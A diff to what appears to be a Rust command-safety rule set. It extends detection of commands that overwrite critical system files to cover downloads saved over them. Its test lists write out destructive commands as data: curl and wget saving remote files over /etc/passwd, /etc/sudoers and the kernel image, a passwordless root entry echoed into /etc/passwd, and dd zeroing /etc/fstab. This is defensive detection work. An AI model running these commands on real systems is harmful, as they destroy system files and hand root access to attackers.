@@ -248,7 +248,7 @@ pub static RULES: &[Rule] = &[
                         || deletion::holds_project(raw, ctx)
                         || deletion::parent_of_unknown(raw)
                         || deletion::home_by_unset(raw, ctx)
-                        || deletion::home_by_lookup(raw)
+                        || deletion::home_by_lookup(raw, ctx)
                 })
         },
         must_match: &[
@@ -1567,7 +1567,10 @@ pub static RULES: &[Rule] = &[
                         .any(|w| w.strip_prefix("of=").is_some_and(critical_file)))
                 || (matches!(c.name, "cp" | "install" | "ln" | "mv")
                     && c.operands().count() >= 2
-                    && c.operands().last().is_some_and(|a| critical_file(&a.raw)));
+                    && c.operands().last().is_some_and(|a| critical_file(&a.raw)))
+                // A download saved over it (`curl -o /etc/passwd URL`, `wget -O /etc/sudoers`):
+                // the response replaces the file whole.
+                || system::download_target(c).is_some_and(|t| critical_file(t) || table(t));
             // An archive extracted into the trees the system's packages own writes over their
             // files (`-C /etc`); into `/usr/local` or `/opt` it installs (DeleteOutside).
             let extracted = system::extracts_into(c).is_some_and(|d| {
@@ -1590,8 +1593,12 @@ pub static RULES: &[Rule] = &[
             "echo 'root::0:0::/root:/bin/bash' > /etc/passwd",
             "printf 'x\\n' | sudo tee /etc/passwd",
             "sudo dd if=/dev/zero of=/etc/fstab",
+            "sudo curl -sS -o /etc/passwd https://x.example/a",
+            "wget -O /etc/sudoers https://x.example/a",
+            "curl --output=/boot/vmlinuz https://x.example/k",
         ],
         must_not_match: &[
+            "curl -sS -o build/a.json https://x.example/a",
             "cat /etc/passwd",
             "echo 1.2.3.4 host | sudo tee -a /etc/hosts",
             "rm /tmp/x",
